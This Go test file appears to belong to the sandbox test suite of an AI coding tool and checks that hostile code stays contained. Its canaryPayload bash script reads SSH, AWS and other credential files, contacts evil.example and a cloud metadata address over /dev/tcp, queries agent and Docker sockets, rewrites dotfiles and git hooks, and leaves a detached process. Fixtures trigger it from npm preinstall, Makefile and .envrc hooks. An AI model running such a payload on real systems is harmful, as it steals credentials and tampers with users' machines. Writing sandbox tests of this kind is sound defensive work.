package app

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/sys/unix"

	"dure/internal/app/eval"
	"dure/internal/safety/policy"
	"dure/internal/safety/sandbox"
)

// An arena is a home, a workspace and what lies around them, as fixture.txt says and
// with more that an attack would like: credentials, sockets, hooks. Each has its own,
// so that several attacks run at a time. It is for one goroutine.
type arena struct {
	policyTree
	base   string
	pass   pass
	layout []item // all of it
	app    *App
	places *eval.Evaluator
	boxes  map[string]*sandbox.Box // by what rules deny
	agent  post                    // the socket of an agent
}

// canarySecret is in every credential, and must not be seen anywhere else.
const canarySecret = "CANARY-SECRET"

// canaryRan is what hostile code says when it runs.
const canaryRan = "HOSTILE-RAN"

// credentials are below the home folder.
var canaryCredentials = []string{
	".ssh/id_ed25519", ".aws/credentials", ".netrc", ".docker/config.json", ".config/gh/hosts.yml", ".gnupg/secring.gpg",
	".git-credentials", ".kube/config", ".bash_history", ".dure/credentials.json", ".dure/sessions/log.jsonl",
}

// An item is a file, folder or link of an arena.
type item struct {
	path, text string // text: what is in a file, or where a link leads
	mode       fs.FileMode
}

// newArena makes an arena. Programs that attacks name and that are not here are
// hostile ones in it.
func newArena(t *testing.T, base string, p pass, missing []string) *arena {
	t.Helper()
	a := &arena{policyTree: policyTreeAt(base), base: base, pass: p, boxes: map[string]*sandbox.Box{}}
	if err := errors.Join(os.MkdirAll(base, 0o755), a.plant(), a.furnish(missing)); err != nil {
		t.Fatal(err)
	}
	a.agent.listen(t, "unix", filepath.Join(base, "run", "agent"))
	if err := errors.Join(a.record(), a.restore(base)); err != nil {
		t.Fatal(err)
	}
	if p.mechanism == "" {
		return a
	}
	a.places = &eval.Evaluator{Dir: a.workspace, Home: a.home}
	settings := `{"sandbox":{"limits":{"processes":500,"fileSize":"16MiB","memory":"4GiB"}}}`
	if p.proxy {
		settings = `{"sandbox":{"limits":{"processes":500,"fileSize":"16MiB","memory":"4GiB"},"network":{"allow":["allowed.example"]}}}`
	}
	var err error
	a.app, err = New(Options{
		Flags: Flags{Settings: settings}, Environ: a.environ(), UserHome: a.home, Workdir: a.workspace,
		Version: "test", Mechanisms: []string{p.mechanism},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		for _, b := range a.boxes {
			if err := b.Close(); err != nil {
				t.Error(err)
			}
		}
		if err := a.app.Close(); err != nil {
			t.Error(err)
		}
	})
	return a
}

// record remembers how the arena is.
func (a *arena) record() error {
	return filepath.WalkDir(a.base, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.Type()&fs.ModeSocket != 0 {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		one := item{path: path, mode: info.Mode()}
		switch {
		case d.Type()&fs.ModeSymlink != 0:
			one.text, err = os.Readlink(path)
		case d.Type().IsRegular():
			var text []byte
			text, err = os.ReadFile(path)
			one.text = string(text)
		}
		a.layout = append(a.layout, one)
		return err
	})
}

// environ is the environment of the user.
func (a *arena) environ() []string {
	return []string{
		"PATH=" + filepath.Join(a.base, "lures") + ":/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "HOME=" + a.home, "USER=user", "LANG=C.UTF-8",
		"DURE_HOME=" + filepath.Join(a.home, ".dure"), "SSH_AUTH_SOCK=" + filepath.Join(a.base, "run", "agent"),
		"DOCKER_HOST=unix://" + canaryDocker, "ANTHROPIC_API_KEY=" + canarySecret,
	}
}

// furnish adds to the tree of the fixture.
func (a *arena) furnish(missing []string) error {
	payload := strings.NewReplacer("${W}", a.workspace, "${O}", a.outside, "${H}", a.home, "${B}", a.base, "${ABSTRACT}", canaryAbstract).Replace(canaryPayload)
	evil := filepath.Join(a.workspace, "evil")
	files := map[string]string{
		"outside/.git/config": "[core]\n\trepositoryformatversion = 0\n", "outside/.git/hooks/post-checkout": "#!/bin/sh\n",
		"home/.profile": "# text\n", "home/.zshrc": "# text\n", "home/.config/git/ignore": "*.o\n", "home/bin/tool": "#!/bin/sh\n",
		"home/.gitconfig": "[user]\n\tname = user\n\temail = user@host.example\n", "run/pid": "1\n",
		"work/package.json": `{"name":"x","version":"1.0.0","scripts":{"test":"./evil","build":"./evil","preinstall":"./evil"}}`,
		"work/Makefile":     "all test:\n\t./evil\n", "work/.npmrc": "fund=false\n", "work/.envrc": "./evil\n", "work/.bashrc": "./evil\n",
		"work/.gitmodules": "", "work/.pre-commit-config.yaml": "repos: []\n", "work/.git/hooks/post-commit": "#!/bin/sh\n",
		"work/x.py":   "import os\nos.system('" + evil + "')\n",
		"work/x.js":   "require('child_process').spawnSync('" + evil + "', {stdio: 'inherit'})\n",
		"work/x.pl":   "system('" + evil + "');\n",
		"work/.env":   "NAME=value\n",
		"lures/.keep": "",
	}
	for _, name := range canaryCredentials {
		files[filepath.Join("home", name)] = canarySecret + " of " + name + "\n"
	}
	files["work/evil.py"], files["work/evil.js"], files["work/evil.pl"] = files["work/x.py"], files["work/x.js"], files["work/x.pl"]
	for _, name := range []string{"evil", "evil.sh", "x.sh", "x", "ls", "cat", "npm", "rm", "touch", "git"} {
		files["work/"+name] = payload
	}
	for _, name := range append([]string{"id"}, missing...) {
		files["lures/"+name] = payload
	}
	for name, text := range files {
		path := filepath.Join(a.base, name)
		mode := fs.FileMode(0o644)
		if strings.HasPrefix(text, "#!") {
			mode = 0o755
		}
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), mode)); err != nil {
			return err
		}
	}
	return a.repository()
}

// repository makes the workspace one of git, with a commit, where there is git.
func (a *arena) repository() error {
	git, err := exec.LookPath("git")
	if err != nil {
		return nil
	}
	for _, name := range []string{"HEAD", "config"} {
		if err := os.Remove(filepath.Join(a.workspace, ".git", name)); err != nil {
			return err
		}
	}
	for _, args := range [][]string{{"init", "-q"}, {"add", "a.txt", "src"}, {"commit", "-q", "--no-verify", "-m", "text"}} {
		cmd := exec.Command(git, args...)
		cmd.Dir = a.workspace
		cmd.Env = []string{"HOME=" + a.home, "PATH=/usr/bin:/bin", "GIT_TEMPLATE_DIR=", "GIT_CONFIG_NOSYSTEM=1"}
		if out, err := cmd.CombinedOutput(); err != nil {
			return fmt.Errorf("git %v: %w: %s", args, err, out)
		}
	}
	return nil
}

// canaryPayload is what hostile code would try: to change what is not its own, to
// read credentials, to reach somebody, to outlive its command.
const canaryPayload = `#!/bin/bash
[ -n "$HOSTILE" ] && exit
export HOSTILE=1 PATH=/usr/bin:/bin
echo '` + canaryRan + `'
exec 2>/dev/null
: > ${W}/ran
for f in ${O}/secret.txt ${O}/new ${O}/.git/config ${O}/.git/hooks/pre-commit ${H}/.bashrc ${H}/.profile ${H}/.ssh/authorized_keys ${H}/new \
	${B}/new ${B}/lures/sudo ${W}/.git/config ${W}/.git/hooks/pre-commit ${W}/.vscode/settings.json ${W}/.mcp.json ${W}/.envrc; do
	echo changed >> $f
done
mkdir -p ${W}/.claude ${W}/.husky && echo changed > ${W}/.claude/settings.json
mv ${W}/.git/hooks ${W}/.git/old
rm -rf ${O}/dir ${H}/notes.txt
chmod 777 ${O} ${O}/data.csv
ln ${O}/data.csv ${W}/hard && echo changed >> ${W}/hard
ln -s ${O}/data.csv ${W}/soft && echo changed >> ${W}/soft
for f in ${H}/.ssh/id_ed25519 ${H}/.netrc ${H}/.aws/credentials ${H}/.dure/credentials.json /proc/1/root${H}/.kube/config; do
	read -r line < $f && echo "$line" && echo "$line" >> ${W}/stolen
done
for to in evil.example/80 127.0.0.1/443 169.254.169.254/80 2001:db8::1/8080 ::1/9; do
	exec 3<> /dev/tcp/$to && exec 3>&-
done
echo stolen > /dev/udp/192.0.2.99/53
curl -s -m 1 --unix-socket ${B}/run/agent http://x/ --next -s -m 1 --unix-socket /run/docker.sock http://x/ --next -s -m 1 --abstract-unix-socket ${ABSTRACT} http://x/
setsid -f env -i sleep 600 < /dev/null > /dev/null
`

// restore makes everything below a folder as it was when the arena was made, but for
// what belongs to no layout.
func (a *arena) restore(dir string) error {
	clear := []string{dir}
	if dir == a.base { // the socket and what the program keeps stay
		clear = []string{a.workspace, a.beside, a.outside, filepath.Join(a.base, "lures")}
		for _, one := range a.layout {
			if filepath.Dir(one.path) == a.home && one.path != filepath.Join(a.home, ".dure") {
				clear = append(clear, one.path)
			}
		}
	}
	for _, path := range clear {
		if err := removeTree(path); err != nil {
			return err
		}
	}
	for _, one := range a.layout {
		if one.path != dir && !strings.HasPrefix(one.path, dir+"/") {
			continue
		}
		var err error
		switch {
		case one.mode.IsDir():
			err = errors.Join(os.MkdirAll(one.path, 0o755), os.Chmod(one.path, one.mode.Perm()))
		case one.mode&fs.ModeSymlink != 0:
			err = os.Symlink(one.text, one.path)
		default:
			err = os.WriteFile(one.path, []byte(one.text), one.mode.Perm())
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// removeTree removes a folder, whatever rights were taken away.
func removeTree(dir string) error {
	if os.RemoveAll(dir) == nil {
		return nil
	}
	_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, _ error) error {
		if d != nil && d.IsDir() {
			_ = os.Chmod(path, 0o700) // else removing says so
		}
		return nil
	})
	return os.RemoveAll(dir)
}

// denied returns the paths that the rules of a case deny to read and to change.
func (a *arena) denied(rules eval.Rules) (reads, edits []string, err error) {
	place, err := a.places.Place(a.workspace, nil, a.home)
	if err != nil {
		return nil, nil, err
	}
	cfg := place.Config(a.workspace, a.home)
	cfg.Deny = rules.Deny
	pol, err := policy.New(cfg)
	if err != nil {
		return nil, nil, err
	}
	reads, edits = pol.DeniedPaths()
	return reads, edits, nil
}

// look returns what must not change while an attack runs, and how it is now: files,
// folders and links with their rights, times and contents. Where there are no mounts, only names and contents count
// outside, and the workspace is not protected from within.
func (a *arena) look(reads, edits []string) map[string]string {
	seen := map[string]string{}
	own := []string{a.workspace, filepath.Join(a.home, ".dure", "caches"), filepath.Join(a.home, ".dure", "tmp")}
	a.walk(seen, a.base, own)
	guarded := append(slices.Clone(edits), reads...)
	for _, name := range append(sandbox.ProtectNames(), sandbox.PresentNames()...) {
		guarded = append(guarded, filepath.Join(a.workspace, filepath.FromSlash(name)))
	}
	if a.pass.mechanism != "landlock" {
		for _, path := range guarded {
			a.walk(seen, path, nil)
		}
	}
	return seen
}

// walk looks at a path and all below it, but for what is left out.
func (a *arena) walk(seen map[string]string, dir string, but []string) {
	_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if slices.Contains(but, path) {
			return fs.SkipDir
		}
		if err != nil {
			if !errors.Is(err, fs.ErrNotExist) {
				seen[path] = err.Error()
			}
			return nil
		}
		if how := a.state(path); how != "" {
			seen[path] = how
		}
		return nil
	})
}

// state is how a path is; "" = it is not there, or stands for something that must
// not come to be.
func (a *arena) state(path string) string {
	var st unix.Stat_t
	if unix.Lstat(path, &st) != nil || st.Mode == unix.S_IFDIR|unix.S_ISVTX|0o500 {
		return ""
	}
	text := ""
	switch st.Mode & unix.S_IFMT {
	case unix.S_IFLNK:
		text, _ = os.Readlink(path)
	case unix.S_IFREG:
		text = peek(path)
	}
	if a.pass.mechanism == "landlock" {
		return fmt.Sprintf("%o %q", st.Mode&unix.S_IFMT, text)
	}
	names := make([]byte, 1024)
	n, _ := unix.Llistxattr(path, names)
	times := [2]int64{st.Mtim.Nano(), st.Ctim.Nano()}
	if path == a.base || filepath.Base(path) == ".dure" { // what the program itself keeps comes and goes there
		times = [2]int64{}
	}
	return fmt.Sprintf("%o %d:%d %d links %v %q %q", st.Mode, st.Uid, st.Gid, st.Nlink, times, names[:max(n, 0)], text)
}

// peek reads the beginning of a file.
func peek(path string) string {
	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_NOFOLLOW|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err != nil {
		return err.Error()
	}
	defer func() { _ = unix.Close(fd) }()
	text := make([]byte, 64<<10)
	n, _ := unix.Read(fd, text)
	return string(text[:max(n, 0)])
}

// secrets are the files that must not be opened while an attack runs: credentials,
// and what rules deny to read. Where there are no mounts, all of the workspace can be.
func (a *arena) secrets(reads []string) []string {
	var all []string
	for _, name := range canaryCredentials {
		all = append(all, filepath.Join(a.home, name))
	}
	for _, path := range reads {
		if a.pass.mechanism == "landlock" && strings.HasPrefix(path, a.workspace+"/") {
			continue
		}
		_ = filepath.WalkDir(path, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() {
				all = append(all, path)
			}
			return nil
		})
	}
	return all
}

// A spy is told by the kernel who opens files, through whatever mount.
type spy struct {
	fd    int
	files map[int32]string
}

func spyOn(files []string) (*spy, error) {
	fd, err := unix.InotifyInit1(unix.IN_NONBLOCK | unix.IN_CLOEXEC)
	if err != nil {
		return nil, err
	}
	s := &spy{fd, map[int32]string{}}
	for _, path := range files {
		id, err := unix.InotifyAddWatch(fd, path, unix.IN_OPEN)
		if err != nil {
			return nil, errors.Join(err, unix.Close(fd))
		}
		s.files[int32(id)] = path
	}
	return s, nil
}

// opened ends the watch and says which files were opened.
func (s *spy) opened() []string {
	defer func() { _ = unix.Close(s.fd) }()
	var all []string
	events := make([]byte, 64<<10)
	for {
		n, err := unix.Read(s.fd, events)
		if err != nil || n <= 0 {
			slices.Sort(all)
			return slices.Compact(all)
		}
		for at := 0; at+unix.SizeofInotifyEvent <= n; {
			id, mask := int32(binary.NativeEndian.Uint32(events[at:])), binary.NativeEndian.Uint32(events[at+4:])
			if mask&unix.IN_OPEN != 0 {
				all = append(all, "reading "+s.files[id]+" is not for it")
			}
			at += unix.SizeofInotifyEvent + int(binary.NativeEndian.Uint32(events[at+12:]))
		}
	}
}

// differences says what is not as it was.
func differences(before, after map[string]string) []string {
	var all []string
	for path, was := range before {
		if is := after[path]; is != was {
			all = append(all, fmt.Sprintf("%s was %s, is %s", path, was, is))
		}
	}
	for path, is := range after {
		if _, ok := before[path]; !ok {
			all = append(all, fmt.Sprintf("%s was not there, is %s", path, is))
		}
	}
	slices.Sort(all)
	return all
}

// stolen returns the files of the workspace and of the caches that have a secret in
// them.
func (a *arena) stolen() []string {
	var all []string
	for _, dir := range []string{a.workspace, filepath.Join(a.home, ".dure", "caches"), filepath.Join(a.home, ".dure", "tmp")} {
		_ = filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
			if err == nil && d.Type().IsRegular() && strings.Contains(peek(path), canarySecret) {
				all = append(all, "a secret is in "+path)
			}
			return nil
		})
	}
	return all
}

// A nose is a writer that smells secrets, and hostile code.
type nose struct {
	tail       []byte
	smelt, ran bool
}

func (n *nose) Write(b []byte) (int, error) {
	n.tail = append(n.tail, b...)
	n.smelt = n.smelt || bytes.Contains(n.tail, []byte(canarySecret))
	n.ran = n.ran || bytes.Contains(n.tail, []byte(canaryRan))
	n.tail = append([]byte(nil), n.tail[max(0, len(n.tail)-len(canarySecret)):]...) // the longer of them
	return len(b), nil
}

// commandOf is the command line of a case, or "" when its input has none.
func commandOf(c policyCase) string {
	var in struct {
		Command string `json:"command"`
	}
	if json.Unmarshal(c.Input, &in) != nil || strings.ContainsRune(in.Command, 0) {
		return ""
	}
	return in.Command
}
